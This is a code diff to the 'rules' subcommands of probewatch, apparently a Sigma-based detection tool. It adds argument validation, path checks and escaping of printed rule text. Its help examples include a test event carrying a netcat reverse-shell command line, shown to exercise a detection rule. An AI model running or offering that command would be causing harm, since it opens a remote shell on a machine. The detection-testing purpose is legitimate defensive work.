@@ -9,6 +9,10 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
+from ..decode.escape import escape_text as esc
+from ..errors import ProbewatchError
+from .watch import level_arg
+
 EXAMPLES = """examples:
   probewatch rules list                         the shipped rules: level, techniques, title
   probewatch rules list --rules ~/sigma/rules/linux --json | jq '.rules | length'
@@ -17,7 +21,7 @@ EXAMPLES = """examples:
   probewatch rules lint my.yml --placeholder admins=root,ops   values for %admins% (|expand)
   probewatch rules test my.yml --event '{"kind": "process_creation",
       "fields": {"Image": "/usr/bin/nc", "CommandLine": "nc -e /bin/sh 10.0.0.1 4444"}}'
-  probewatch rules test 'Netcat reverse shell' --event @event.json
+  probewatch rules test 'Reverse Shell Command Line' --event @event.json
 
 lint exit status: 0 when every rule loads and runs (warnings, e.g. a field probewatch
 never fills inside an `or`, do not count unless --strict), 1 when any rule or file
@@ -41,7 +45,7 @@ def register(sub: argparse._SubParsersAction) -> None:
                          description="List the rules that run (shipped plus --rules).",
                          epilog=EXAMPLES, formatter_class=argparse.RawDescriptionHelpFormatter)
     _common(lp)
-    lp.add_argument("--level", default="informational", metavar="LEVEL",
+    lp.add_argument("--level", type=level_arg, default="informational", metavar="LEVEL",
                     help="only rules at this level or above")
     lp.add_argument("-v", "--verbose", action="store_true",
                     help="also the fields, index and the generated predicate")
@@ -57,8 +61,8 @@ def register(sub: argparse._SubParsersAction) -> None:
                     help="Sigma filter files or directories (repeatable)")
     tp.add_argument("--with-default-rules", action="store_true",
                     help="load the shipped rules too (for correlations that refer to them)")
-    tp.add_argument("--placeholder", action="append", default=[], metavar="NAME=V1,V2",
-                    help="values of %%NAME%% for |expand (repeatable)")
+    tp.add_argument("--placeholder", type=placeholder_arg, action="append", default=[],
+                    metavar="NAME=V1,V2", help="values of %%NAME%% for |expand (repeatable)")
     tp.add_argument("--strict", action="store_true", help="warnings fail too")
     tp.add_argument("--json", action="store_true", help="one JSON object on stdout")
     tp.set_defaults(func=run_lint)
@@ -83,9 +87,30 @@ def _common(p: argparse.ArgumentParser) -> None:
     p.add_argument("--no-default-rules", action="store_true", help="without the shipped rules")
     p.add_argument("--filters", action="append", default=[], metavar="PATH",
                    help="Sigma filter files or directories (repeatable)")
-    p.add_argument("--placeholder", action="append", default=[], metavar="NAME=V1,V2",
-                   help="values of %%NAME%% for |expand (repeatable)")
+    p.add_argument("--placeholder", type=placeholder_arg, action="append", default=[],
+                   metavar="NAME=V1,V2", help="values of %%NAME%% for |expand (repeatable)")
     p.add_argument("--json", action="store_true", help="JSON on stdout")
+
+
+def _writer() -> Callable[[str], Any]:
+    """stdout.write of lines made safe to print (rule files come from anywhere: a
+    title with a newline or an escape sequence is escaped as in every text output)."""
+    write = sys.stdout.write
+
+    def w(line: str) -> Any:
+        return write(esc(line.removesuffix("\n")) + "\n")
+
+    return w
+
+
+def placeholder_arg(text: str) -> str:
+    """--placeholder NAME=V1,V2 checked when parsed (a usage error, exit status 2)."""
+    try:
+        placeholders([text])
+    except ValueError as e:
+        raise argparse.ArgumentTypeError(str(e).removeprefix(f"--placeholder {text!r}: ")
+                                         ) from None
+    return text
 
 
 def placeholders(specs: list[str]) -> dict[str, list[str]]:
@@ -102,23 +127,25 @@ def placeholders(specs: list[str]) -> dict[str, list[str]]:
 def _load(args: argparse.Namespace, paths: list[Any], default: bool) -> Any:
     from ..detect.engine import RuleSet
 
-    try:
-        ph = placeholders(args.placeholder)
-    except ValueError as e:
-        print(f"probewatch rules: {e}", file=sys.stderr)
-        raise SystemExit(2) from None
-    return RuleSet.load(paths, default=default, filters=args.filters, placeholders=ph)
+    return RuleSet.load(paths, default=default, filters=args.filters,
+                        placeholders=placeholders(args.placeholder))
+
+
+def _need_paths(args: argparse.Namespace) -> None:
+    """--rules / --filters name files that exist (as watch checks them): lint reports a
+    missing path as a problem; list and test would quietly run without it."""
+    for opt, paths in (("--rules", args.rules), ("--filters", args.filters)):
+        for r in paths:
+            if not Path(r).exists():
+                raise ProbewatchError(f"{opt} {r}: no such file or directory")
 
 
 def run_list(args: argparse.Namespace) -> int:
     from ..detect.engine import UNSET_LEVEL
-    from ..detect.model import at_least, parse_level
+    from ..detect.model import at_least
 
-    try:
-        minimum = parse_level(args.level)
-    except ValueError as e:
-        print(f"probewatch rules: {e}", file=sys.stderr)
-        return 2
+    minimum = args.level  # checked by level_arg
+    _need_paths(args)
     rs = _load(args, args.rules, not args.no_default_rules)
     rules = [r for r in rs.rules if at_least(r.level or UNSET_LEVEL, minimum)]
     if args.json:
@@ -127,7 +154,7 @@ def run_list(args: argparse.Namespace) -> int:
                "filters": rs.filters}
         print(json.dumps(doc))
         return 0
-    w = sys.stdout.write
+    w = _writer()
     for r in rules:
         tech = ",".join(r.techniques) or "-"
         what = r.correlation or r.kind or "?"
@@ -144,9 +171,10 @@ def run_list(args: argparse.Namespace) -> int:
                 w(f"    correlates {', '.join(r.referenced)} ({(r.spec or {}).get('timespan')})\n")
             for line in r.source.splitlines()[1:]:
                 w(f"    {line.strip()}\n")
-    w(f"{len(rules)} rules")
+    # the count goes where every command's summary goes: stderr (stdout: one row a rule)
     n = len(rs.problems)
-    w(f"; {n} cannot run (probewatch rules lint)\n" if n else "\n")
+    print(f"{len(rules)} rules" + (f"; {n} cannot run (probewatch rules lint)" if n else ""),
+          file=sys.stderr)
     return 0
 
 
@@ -163,7 +191,7 @@ def run_lint(args: argparse.Namespace) -> int:
             "by_reason": _by_reason(rs.report),
         }))
     else:
-        w = sys.stdout.write
+        w = _writer()
         for p in rs.report:
             w(f"{p}\n")
         w(f"{len(rs.files)} files: {len(rs.rules)} rules run, {len(bad)} problems keep a rule "
@@ -219,8 +247,9 @@ def run_test(args: argparse.Namespace) -> int:
     try:
         events = _read_events(args.event)
     except (ValueError, OSError) as e:
-        print(f"probewatch rules test: bad --event: {e}", file=sys.stderr)
+        print(f"probewatch rules test: error: bad --event: {e}", file=sys.stderr)
         return 2
+    _need_paths(args)
     target = Path(args.rule)
     if target.exists():
         rs = _load(args, [target, *args.rules], not args.no_default_rules)
@@ -233,9 +262,9 @@ def run_test(args: argparse.Namespace) -> int:
         mine = [r] if r is not None else []
         probs = [p for p in rs.report if args.rule in (p.rule_id,) and not p.runs]
     for p in probs:
-        print(f"{p}", file=sys.stderr)
+        print(esc(str(p)), file=sys.stderr)
     if not mine:
-        print(f"probewatch rules test: no runnable rule {args.rule!r}", file=sys.stderr)
+        print(f"probewatch rules test: error: no runnable rule {args.rule!r}", file=sys.stderr)
         return 2
     ids = {r.id for r in mine}
     # every rule runs (correlations need their rules); only RULE's matches are shown
@@ -260,10 +289,10 @@ def run_test(args: argparse.Namespace) -> int:
         for m in matches:
             grp = f" group {m.group}" if m.group else ""
             cnt = f" count {m.count:g}" if m.rule.correlation else ""
-            print(f"match: {m.rule.title} ({m.rule.id}){grp}{cnt}")
+            print(esc(f"match: {m.rule.title} ({m.rule.id}){grp}{cnt}"))
         if not matches:
             titles = ", ".join(r.title for r in mine)
-            print(f"no match: {titles}")
+            print(esc(f"no match: {titles}"))
         for k, v in errors.items():
-            print(f"evaluation errors in {k}: {v}", file=sys.stderr)
+            print(esc(f"evaluation errors in {k}: {v}"), file=sys.stderr)
     return 0 if matches else 1
